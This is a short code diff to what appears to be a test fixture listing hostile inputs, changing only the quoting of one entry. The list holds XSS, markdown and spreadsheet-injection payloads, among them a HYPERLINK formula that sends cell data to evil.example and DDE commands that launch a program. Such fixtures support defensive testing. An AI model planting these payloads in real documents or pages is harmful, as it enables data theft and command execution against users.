@@ -5,7 +5,7 @@ export const HOSTILE = [
   "'><svg onload=alert(1)>",
   '=HYPERLINK("http://evil.example/?"&A1,"click")',
   "+cmd|' /C calc'!A0",
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '[click](javascript:alert(1))',
   '![x](http://evil.example/track.png)',
   'http://evil.example/a?b=<c>&d',
